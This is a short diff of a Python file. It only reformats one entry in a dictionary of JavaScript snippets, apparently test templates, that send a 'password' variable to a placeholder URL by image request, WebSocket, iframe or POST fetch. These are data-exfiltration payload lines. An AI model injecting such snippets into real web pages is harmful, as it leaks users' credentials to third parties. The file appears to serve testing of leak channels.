@@ -187,7 +187,9 @@ SENT = {
     "image": "new Image().src = '{url}/?' + password",
     "websocket": "new WebSocket('{url}/'.replace('http', 'ws') + password)",
     "frame": "document.body.innerHTML += '<iframe src={url}/>'",
-    "redirected fetch": "await fetch('/on', {{method: 'POST', body: password}})",
+    "redirected fetch": (
+        "await fetch('/on', {{method: 'POST', body: password}})"
+    ),
 }
 
 
